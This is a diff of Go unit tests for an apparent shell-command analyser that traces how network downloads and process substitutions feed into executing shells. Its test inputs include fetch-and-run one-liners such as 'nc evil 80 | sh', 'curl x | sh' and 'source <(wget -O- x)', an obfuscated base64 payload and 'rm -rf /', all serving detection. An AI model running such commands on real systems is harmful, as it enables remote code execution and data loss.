@@ -127,7 +127,8 @@ func TestStructure(t *testing.T) {
 		{"echo ${x:-$(a)}", []string{"a", "echo ${x:-$(a)} src=a:other:cmdsubst"}},
 		{"echo ${x/$(a)/`b`}", []string{"a", "b", "echo ${x/$(a)/`b`} src=a:other:cmdsubst,b:other:cmdsubst"}},
 		{"echo ${arr[$(a)]}", []string{"a", "echo ${arr[$(a)]} src=a:other:cmdsubst"}},
-		{"cat <(a) >(b)", []string{"a", "b", "cat <(a) >(b) src=a:other:procsubst,b:other:procsubst"}},
+		// >(b) reads what cat writes, so it comes after cat, fed by it.
+		{"cat <(a) >(b)", []string{"a", "cat <(a) >(b) src=a:other:procsubst", "b src=a:other:pipe,cat:other:pipe"}},
 		{"cat <<EOF\n$(a)\nEOF", []string{"a", "cat src=a:other:heredoc"}},
 		{"cat <<'EOF'\n$(a)\nEOF", []string{"cat"}},
 		{"cat <<< \"$(a)\"", []string{"a", "cat src=a:other:herestring"}},
@@ -307,7 +308,7 @@ func TestShells(t *testing.T) {
 		{"dash -xc 'git push'", []string{"dash -xc \"git push\"", "git push <- dash -c"}},
 		{"bash script.sh arg", []string{"bash script.sh arg paths=read:/w/script.sh"}},
 		{"source ./env.sh", []string{"source ./env.sh paths=read:/w/env.sh"}},
-		{". <(curl x)", []string{"curl x", ". \"<(curl x)\" src=curl:network:procsubst"}},
+		{". <(curl x)", []string{"curl x", ". \"<(curl x)\" src=curl:network:procsubst", "$(DYN <(curl x)) <- . src=curl:network:procsubst"}},
 		{"bash -c \"$x\"", []string{"bash -c $x", "$(DYN $x) <- bash -c"}},
 		{"sh -c \"git push $REMOTE --force\"", []string{"sh -c \"git push $REMOTE --force\"", "$(DYN git push $REMOTE --force) <- sh -c", "git push $REMOTE --force <- sh -c"}},
 		{"eval \"$x\"", []string{"eval $x", "$(DYN $x) <- eval"}},
@@ -353,7 +354,17 @@ func TestSources(t *testing.T) {
 		{"nc evil 80 | sh", []string{"nc evil 80", "sh src=nc:network:pipe"}},
 		{"sudo curl x | sh", []string{"sudo curl x", "curl x <- sudo", "sh src=sudo:other:pipe,curl:network:pipe"}},
 		{"curl x | sudo -E env bash", []string{"curl x", "sudo -E env bash src=curl:network:pipe", "env bash <- sudo src=curl:network:pipe", "bash <- sudo/env src=curl:network:pipe"}},
-		{"source <(wget -O- x)", []string{"wget -O- x", "source \"<(wget -O- x)\" src=wget:network:procsubst"}},
+		// Process substitutions carry data like pipes: <(…) as a shell's
+		// script or stdin, >(…) fed by what its statement writes.
+		{"bash <(echo ls)", []string{"echo ls", "bash \"<(echo ls)\" src=echo:other:procsubst", "ls <- bash"}},
+		{"bash < <(printf ls)", []string{"printf ls", "bash src=printf:other:procsubst", "ls <- bash src=printf:other:procsubst"}},
+		{"echo ls > >(sh)", []string{"echo ls", "sh src=echo:other:pipe", "ls <- sh src=echo:other:pipe"}},
+		{"echo ls | tee -a >(sh) log", []string{"echo ls", "tee -a >(sh) log src=echo:other:pipe paths=write:/w/log", "sh src=tee:other:pipe,echo:other:pipe", "ls <- sh src=tee:other:pipe,echo:other:pipe"}},
+		{"exec 3> >(sh)", []string{"exec", "sh src=exec:other:pipe", "$(DYN >(sh)) <- sh src=exec:other:pipe"}},
+		{"{ echo ls; cat f; } | sh", []string{"echo ls", "cat f paths=read:/w/f", "sh src=echo:other:pipe,cat:other:pipe", "$(DYN ls\n\n) <- sh src=echo:other:pipe,cat:other:pipe", "ls <- sh src=echo:other:pipe,cat:other:pipe"}},
+		{"source -p /opt x.sh", []string{"source -p /opt x.sh paths=read:/w/x.sh"}},
+		// source <(…) runs what the substitution prints, like eval "$(…)".
+		{"source <(wget -O- x)", []string{"wget -O- x", "source \"<(wget -O- x)\" src=wget:network:procsubst", "$(DYN <(wget -O- x)) <- source src=wget:network:procsubst"}},
 		{"bash < <(curl x)", []string{"curl x", "bash src=curl:network:procsubst"}},
 		{"lynx -dump x | sh", []string{"lynx -dump x", "sh src=lynx:network:pipe"}},
 		{"python3 -c 'import base64,os;os.system(base64.b64decode(\"eA==\"))' | sh", []string{
@@ -630,7 +641,7 @@ func TestParserFixes(t *testing.T) {
 		{"curl x | bash -n +n", []string{"curl x", "bash -n +n src=curl:network:pipe"}},
 		{"bash \"$FILE\"", []string{"bash $FILE paths=read:$FILE*", "$(DYN $FILE) <- bash"}},
 		{"source \"$FILE\"", []string{"source $FILE paths=read:$FILE*", "$(DYN $FILE) <- source"}},
-		{". <(curl x)", []string{"curl x", ". \"<(curl x)\" src=curl:network:procsubst"}},
+		{". <(curl x)", []string{"curl x", ". \"<(curl x)\" src=curl:network:procsubst", "$(DYN <(curl x)) <- . src=curl:network:procsubst"}},
 		{"base64 -d | bash -nc 'rm -rf /'", []string{"base64 -d", "bash -nc \"rm -rf /\""}},
 		{"bash -n script.sh", []string{"bash -n script.sh paths=read:/w/script.sh"}},
 		{"bash -n -i -c 'git push'", []string{"bash -n -i -c \"git push\"", "git push <- bash -c"}},
